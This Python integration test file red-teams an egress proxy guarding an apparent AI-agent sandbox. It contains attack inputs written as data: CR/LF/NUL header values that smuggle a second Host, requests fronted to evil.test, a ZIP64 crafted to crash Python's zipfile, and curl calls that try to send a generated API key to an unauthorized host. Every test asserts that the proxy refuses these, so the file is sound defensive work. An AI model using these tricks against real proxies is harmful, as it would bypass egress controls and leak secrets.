"""Red team (issue 15): four holes in the egress proxy, attacked from inside a real docker bottle.

A local *sink* (``sink.test``, ``private: true``) records every byte it receives, plain on port 80 and
inside TLS (test CA) on 443, and answers anything that ends a header block with ``200 ok``. Each attack
carries a fresh marker; an attack that worked shows as its marker in what the sink received. The
bottle's secret ``RT_KEY`` is for ``vault.test`` only, so its real value sent to ``sink.test`` is a
leak the proxy must refuse.

1. Raw TCP through a tunnel: a first segment of 1 to 5 bytes (TLS, HTTP, binary) must never make the
   proxy relay bytes it has not judged (mitmproxy's raw TCP layer).
2. A scanner that crashes (a ZIP64 offset past 2**63) must refuse, not forward unscanned.
3. A restarted bundle has lost its credentials from ``/dev/shm``: it must refuse everything, and
   ``list`` must say so.
4. A bare CR (or LF, NUL) inside a header must not carry a second ``Host``; the Host port must be the
   port dialled.
"""

from __future__ import annotations

import base64
import json
import secrets
import string
import struct
import time
import uuid
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from tests.integration.dockerkit import TEST_LABEL, AgentBottle, Env, connect, docker
from tests.integration.testca import TlsService

pytestmark = pytest.mark.integration

ALNUM = string.ascii_letters + string.digits
REAL = "sk-ant-api03-" + "".join(secrets.choice(ALNUM) for _ in range(80)) + "AA"

# Every byte received, per port, appended to /tmp/rx-<port>; ``200 ok`` once a header block ends.
SINK = r"""
import socket, ssl, sys, threading
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); ctx.load_cert_chain("/certs/server.pem", "/certs/server.key")
lock = threading.Lock()
def handle(conn, port, tls):
    try:
        conn.settimeout(10)
        if tls:
            conn = ctx.wrap_socket(conn, server_side=True)
        data = b""
        while True:
            d = conn.recv(65536)
            if not d:
                break
            with lock, open(f"/tmp/rx-{port}", "ab") as f:
                f.write(d + b"\n--\n")
            data += d
            if b"\r\n\r\n" in data:
                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n")
                break
    except Exception:
        pass
    finally:
        conn.close()
def serve(port, tls):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port)); s.listen(128)
    while True:
        c, _ = s.accept()
        threading.Thread(target=handle, args=(c, port, tls), daemon=True).start()
threading.Thread(target=serve, args=(80, False), daemon=True).start()
serve(443, True)
"""

BOTTLE = """---
egress:
  allow:
    - {host: sink.test, private: true}
    - {host: vault.test, private: true}
secrets:
  RT_KEY:
    from: ${CB_REDTEAM_KEY}
    hosts: [vault.test]
    header: x-api-key
    format: "{value}"
---
"""

# The agent's raw client. args: {mode, port, n, payload (base64), ca, servername}. ``mode``:
#   plain: the payload straight to the proxy (no CONNECT), first ``n`` bytes then the rest;
#   tunnel: CONNECT sink.test:port, then the payload split the same way;
#   tls: CONNECT sink.test:port, then TLS (trusting ``ca`` if given, else the bottle's CA) whose first
#        record is split after ``n`` bytes, then the payload inside it.
CLIENT = r"""
const net = require('net'), tls = require('tls'), {Duplex} = require('stream');
const A = JSON.parse(process.argv[2]);
const payload = Buffer.from(A.payload, 'base64');
let out = '';
const finish = (why) => { console.log(JSON.stringify({why, out})); process.exit(0); };
setTimeout(() => finish('timeout'), 8000);
function split(sock, data) {
  sock.write(data.slice(0, A.n));
  setTimeout(() => sock.write(data.slice(A.n)), 300);
}
class Splitter extends Duplex {
  constructor(sock) { super(); this.sock = sock; this.first = true;
    sock.on('data', d => this.push(d)); sock.on('end', () => this.push(null));
    sock.on('error', e => this.destroy(e)); }
  _read() {}
  _write(chunk, enc, cb) {
    if (!this.first) return this.sock.write(chunk, cb);
    this.first = false; this.sock.write(chunk.slice(0, A.n));
    setTimeout(() => { this.sock.write(chunk.slice(A.n)); cb(); }, 300);
  }
  _final(cb) { this.sock.end(); cb(); }
}
const s = net.connect(3128, 'egress', () => {
  if (A.mode === 'plain') return split(s, payload);
  s.write(`CONNECT sink.test:${A.port} HTTP/1.1\r\nHost: sink.test:${A.port}\r\n\r\n`);
});
s.on('error', e => finish('error ' + e.code));
if (A.mode === 'plain') { s.on('data', d => out += d.toString('latin1')); s.on('close', () => finish('close')); }
else {
  let head = '';
  const onHead = d => {
    head += d.toString('latin1');
    if (!head.includes('\r\n\r\n')) return;
    s.removeListener('data', onHead);
    if (!head.startsWith('HTTP/1.1 200') && !head.startsWith('HTTP/1.0 200')) { out = head; return finish('connect'); }
    if (A.mode === 'tunnel') {
      s.on('data', x => out += x.toString('latin1')); s.on('close', () => finish('close'));
      return split(s, payload);
    }
    const opts = {socket: new Splitter(s), servername: A.servername || 'sink.test'};
    if (A.ca) opts.ca = A.ca;
    const t = tls.connect(opts, () => t.write(payload));
    t.on('data', x => out += x.toString('latin1'));
    t.on('error', e => finish('tls-error ' + (e.code || e.message)));
    t.on('close', () => finish('close'));
  };
  s.on('data', onHead);
}
"""  # noqa: E501 - a program, not Python source


class Sink(TlsService):
    host = "sink.test"
    names = (host,)
    script = SINK
    prefix = "cb-sink"

    def received(self) -> bytes:
        return docker("exec", self.name, "sh", "-c", "cat /tmp/rx-* 2>/dev/null || true").encode(
            "utf-8", "surrogateescape")

    def got(self, marker: str) -> bool:
        time.sleep(0.3)
        return marker.encode() in self.received()


@dataclass(frozen=True)
class Bottle(AgentBottle):
    def client(self, *, mode: str, payload: bytes, n: int, port: int = 80, ca: str | None = None,
               servername: str | None = None) -> dict[str, str]:
        args = {"mode": mode, "port": port, "n": n, "payload": base64.b64encode(payload).decode(),
                "ca": ca, "servername": servername}
        proc = self.node(CLIENT, json.dumps(args))
        lines = proc.stdout.strip().splitlines()
        assert lines, proc.stderr
        return json.loads(lines[-1])

@pytest.fixture(scope="module")
def sink(env: Env, images: None) -> Iterator[Sink]:
    with Sink(env.home, label=TEST_LABEL) as s:
        yield s


def _up(env: Env, sink: Sink) -> Bottle:
    (env.home / "bottles").mkdir(exist_ok=True)
    (env.home / "agents").mkdir(exist_ok=True)
    (env.home / "bottles" / "redteam-proxy.md").write_text(BOTTLE)
    (env.home / "agents" / "rt-proxy.md").write_text("---\nbottle: redteam-proxy\n---\nAttack.\n")
    (env.home / "upstream-ca.pem").write_bytes(sink.trust_bundle())
    up = env.cli("up", "rt-proxy", "--no-workspace", "--detach", "--yes", "--json",
                 env_extra={"CB_REDTEAM_KEY": REAL})
    b = Bottle(json.loads(up.stdout)["slug"], env)
    connect(sink.network, b.bundle, [sink.host])
    return b


def _down(b: Bottle, sink: Sink) -> None:
    docker("network", "disconnect", "--force", sink.network, b.bundle, check=False)
    b.env.cli("down", b.slug, "--yes", "--discard", check=False)


@pytest.fixture(scope="module")
def bottle(env: Env, sink: Sink) -> Iterator[Bottle]:
    b = _up(env, sink)
    try:
        yield b
    finally:
        _down(b, sink)


def _marker() -> str:
    return "m" + uuid.uuid4().hex


# -- 1. raw TCP through the tunnel ------------------------------------------------------------------
def _fronted_request(marker: str, *, target: str = "/") -> bytes:
    """A request the proxy must refuse: its Host names a host the bottle does not allow."""
    return (f"POST {target}{marker} HTTP/1.1\r\nHost: evil.test\r\nContent-Length: 5\r\n"
            "Connection: close\r\n\r\nhello").encode()


def test_control_a_clean_request_split_at_one_byte_arrives(bottle: Bottle, sink: Sink) -> None:
    """The splits below are not refused for being split: a well-formed request split after its first
    byte (plain, then inside TLS the bottle's CA intercepts) is judged, allowed and delivered."""
    for mode, port in (("tunnel", 80), ("tls", 443)):
        marker = _marker()
        req = f"GET /{marker} HTTP/1.1\r\nHost: sink.test\r\nConnection: close\r\n\r\n".encode()
        got = bottle.client(mode=mode, payload=req, n=1, port=port)
        assert "200 OK" in got["out"], (mode, got)
        assert sink.got(marker), (mode, got)


@pytest.mark.parametrize("n", [1, 2, 3, 4, 5])
def test_split_http_in_a_tunnel_is_judged_not_relayed(bottle: Bottle, sink: Sink, n: int) -> None:
    marker = _marker()
    got = bottle.client(mode="tunnel", payload=_fronted_request(marker), n=n, port=80)
    assert not sink.got(marker), f"split at {n}: a request naming evil.test was relayed: {got}"


@pytest.mark.parametrize("n", [1, 2, 3, 4, 5])
def test_split_plain_proxy_request_is_judged(bottle: Bottle, sink: Sink, n: int) -> None:
    marker = _marker()
    got = bottle.client(mode="plain", payload=_fronted_request(marker, target="http://sink.test/"), n=n)
    assert not sink.got(marker), f"split at {n}: {got}"


@pytest.mark.parametrize("n", [1, 2, 3, 4, 5])
def test_split_binary_in_a_tunnel_never_reaches_the_server(bottle: Bottle, sink: Sink, n: int) -> None:
    marker = _marker()
    payload = b"\x00\x01\xfe" + marker.encode() + b"\x00binary protocol\r\n\r\n"
    for port in (80, 443):
        got = bottle.client(mode="tunnel", payload=payload, n=n, port=port)
        assert not sink.got(marker), f"split at {n}, port {port}: raw bytes were relayed: {got}"


@pytest.mark.parametrize("n", [1, 2, 3, 4, 5])
def test_split_tls_never_reaches_the_server_end_to_end(bottle: Bottle, sink: Sink, n: int) -> None:
    """End-to-end TLS (the client trusts only the sink's own CA) would carry any SNI, Host and body
    past every check: the proxy must intercept it (so this client's handshake fails) whatever the split."""
    marker = _marker()
    payload = _fronted_request(marker)
    for servername in ("sink.test", "evil.test"):
        got = bottle.client(mode="tls", payload=payload, n=n, port=443, ca=sink.ca, servername=servername)
        assert not sink.got(marker), f"split at {n}, SNI {servername}: end-to-end TLS was relayed: {got}"
        assert "200 OK" not in got["out"], got


def test_refused_raw_tunnels_are_audited_as_refused_and_nothing_is_allowed_for_them(bottle: Bottle) -> None:
    records = bottle.env.audit(bottle.slug)
    assert any(r.get("verdict") == "deny" for r in records)
    assert not any(r.get("host") == "evil.test" and r.get("verdict") == "allow" for r in records)


# -- 2. the scanner fails closed ---------------------------------------------------------------------
def _zip64_past_2_63(member: bytes) -> bytes:
    """A stored zip entry whose central directory gives its local header offset in a ZIP64 extra
    field as 2**63: Python's zipfile overflows when it seeks there."""
    name = b"secret.txt"
    crc = zlib.crc32(member)
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(member), len(member),
                        len(name), 0) + name + member
    extra = struct.pack("<HHQ", 1, 8, 2**63)
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 45, 45, 0, 0, 0, 0, crc, len(member),
                          len(member), len(name), len(extra), 0, 0, 0, 0, 0xFFFFFFFF) + name + extra
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end


def test_the_crafted_zip64_really_overflows_zipfile() -> None:
    data = _zip64_past_2_63(b"x")
    with zipfile.ZipFile(__import__("io").BytesIO(data)) as z, pytest.raises(OverflowError):
        z.open(z.infolist()[0]).read()


def test_a_body_that_crashes_the_unpacker_is_refused_with_an_audit_line(bottle: Bottle, sink: Sink) -> None:
    marker = _marker()
    body = _zip64_past_2_63(f"key={REAL}\n".encode())
    bottle.sh("base64 -d > /tmp/zip64.zip", stdin=base64.b64encode(body).decode())
    out = bottle.sh("curl -sS --max-time 20 -w '\\n%{http_code}' -H 'Content-Type: application/zip' "
                    f"--data-binary @/tmp/zip64.zip https://sink.test/{marker}")
    assert not sink.got(marker), f"the request went out unscanned: {out}"
    assert out.stdout.rsplit("\n", 1)[-1] == "403", out
    assert any(r.get("verdict") == "deny" and marker in str(r.get("path"))
               for r in bottle.env.audit(bottle.slug)), "no audit line for the refused request"


# -- 4. header injection ---------------------------------------------------------------------------
HEADER_TRICKS = {
    "bare-cr-host": "X-A: a\rHost: evil.test\r\n",
    "cr-in-name": "X\rHost: evil.test\r\n",
    "nul-in-value": "X-A: a\x00b\r\n",
    "bare-lf-host": "X-A: a\nHost: evil.test\r\n",
    "host-other-port": None,
}


@pytest.mark.parametrize("trick", sorted(HEADER_TRICKS))
@pytest.mark.parametrize("mode", ["plain", "tunnel", "tls"])
def test_header_control_characters_and_a_foreign_host_port_are_refused(bottle: Bottle, sink: Sink,
                                                                       trick: str, mode: str) -> None:
    marker = _marker()
    target = f"http://sink.test/{marker}" if mode == "plain" else f"/{marker}"
    extra = HEADER_TRICKS[trick]
    host = "sink.test:8080" if extra is None else "sink.test"
    req = (f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{extra or ''}Connection: close\r\n\r\n").encode(
        "latin-1")
    got = bottle.client(mode=mode, payload=req, n=len(req), port=443 if mode == "tls" else 80)
    assert not sink.got(marker), f"{trick} ({mode}) was forwarded: {got}"


# -- extra: a denied request's body is never buffered --------------------------------------------------
def test_a_huge_body_to_a_refused_host_is_cut_at_its_headers(bottle: Bottle) -> None:
    """The proxy decides at the request's headers: 2 GiB announced to a host the bottle does not allow
    is refused without reading it (the bundle once buffered 1.5 GB and was OOM-killed)."""
    out = bottle.sh("head -c 300000000 /dev/zero | curl -sS --max-time 60 -o /dev/null -w '%{http_code}' "
                    "-H 'Content-Length: 2147483648' --data-binary @- http://denied.test/upload", timeout=90)
    assert out.stdout.strip() in ("000", "403", "413"), out
    state = json.loads(docker("inspect", bottle.bundle))[0]["State"]
    assert state["Running"] and not state["OOMKilled"], state
    assert any(r.get("host") == "denied.test" and r.get("verdict") == "deny"
               for r in bottle.env.audit(bottle.slug))


def test_a_body_over_the_cap_to_an_allowed_host_is_refused_with_413(bottle: Bottle, sink: Sink) -> None:
    marker = _marker()
    out = bottle.sh("head -c 300000000 /dev/zero | curl -sS --max-time 60 -o /tmp/413.txt -w '%{http_code}' "
                    f"-H 'Transfer-Encoding: chunked' --data-binary @- https://sink.test/{marker}; "
                    "echo; cat /tmp/413.txt", timeout=90)
    assert not sink.got(marker)
    assert out.stdout.startswith("413"), out
    assert "request_body_max_bytes" in out.stdout, out
    state = json.loads(docker("inspect", bottle.bundle))[0]["State"]
    assert state["Running"] and not state["OOMKilled"], state


# -- 3. a restarted bundle --------------------------------------------------------------------------
def _wait_proxy(b: Bottle) -> None:
    for _ in range(100):
        probe = b.sh("curl -sS -o /dev/null --max-time 2 -w '%{http_code}' -x http://egress:3128 "
                     "http://denied.test/", timeout=10)
        if probe.stdout.strip() not in ("", "000"):
            return
        time.sleep(0.2)
    raise AssertionError("the proxy did not come back")


@pytest.mark.parametrize("how", ["restart", "kill-start", "stop-start"])
def test_a_restarted_bundle_refuses_everything_until_it_has_its_credentials(env: Env, sink: Sink,
                                                                            how: str) -> None:
    b = _up(env, sink)
    try:
        control = _marker()
        assert "200" in b.sh(f"curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' "
                             f"https://sink.test/{control}").stdout
        leak = _marker()
        refused = b.sh(f"curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' -d 'k={REAL}' "
                       f"https://sink.test/{leak}")
        assert refused.stdout == "403" and not sink.got(leak)
        # The proxy refuses every network its bundle sits on, found when it starts: the sink's network
        # is joined again only after the restart, as an upstream outside the bottle would be.
        docker("network", "disconnect", "--force", sink.network, b.bundle)
        if how == "restart":
            docker("restart", "-t", "1", b.bundle)
        elif how == "kill-start":
            docker("kill", "-s", "KILL", b.bundle)
            docker("start", b.bundle)
        else:
            docker("stop", "-t", "1", b.bundle)
            docker("start", b.bundle)
        _wait_proxy(b)  # its networks are read when the proxy starts: join the sink's only after
        connect(sink.network, b.bundle, [sink.host])
        leak = _marker()
        out = b.sh(f"curl -sS --max-time 20 -w '\\n%{{http_code}}' -d 'k={REAL}' https://sink.test/{leak}")
        assert not sink.got(leak), f"{how}: the real value left after a restart: {out}"
        clean = _marker()
        out = b.sh(f"curl -sS --max-time 20 -w '\\n%{{http_code}}' https://sink.test/{clean}")
        assert not sink.got(clean), f"{how}: traffic passed while the credentials were missing: {out}"
        plain = b.sh(f"curl -sS --max-time 20 -w '\\n%{{http_code}}' http://sink.test/{clean}")
        assert plain.stdout.rsplit("\n", 1)[-1] == "403" and "down" in plain.stdout, plain
        listed = env.cli("list", "--json")
        row = next(r for r in json.loads(listed.stdout) if r["slug"] == b.slug)
        assert "credentials" in row["problem"] and f"claude-bottle down {b.slug}" in row["problem"], row
        table = env.cli("list")
        assert f"claude-bottle down {b.slug}" in table.stdout + table.stderr, table
        # `start` gives the bundle its credentials again (and the agent the bundle's new CA)
        env.cli("start", b.slug, env_extra={"CB_REDTEAM_KEY": REAL})
        again = _marker()
        ok = b.sh(f"curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' https://sink.test/{again}")
        assert ok.stdout == "200" and sink.got(again), (ok, b.audit()[-2:])
        leak = _marker()
        refused = b.sh(f"curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' -d 'k={REAL}' "
                       f"https://sink.test/{leak}")
        assert refused.stdout == "403" and not sink.got(leak), refused
        row = next(r for r in json.loads(env.cli("list", "--json").stdout) if r["slug"] == b.slug)
        assert row["problem"] == "" and row["state"] == "running", row
    finally:
        _down(b, sink)
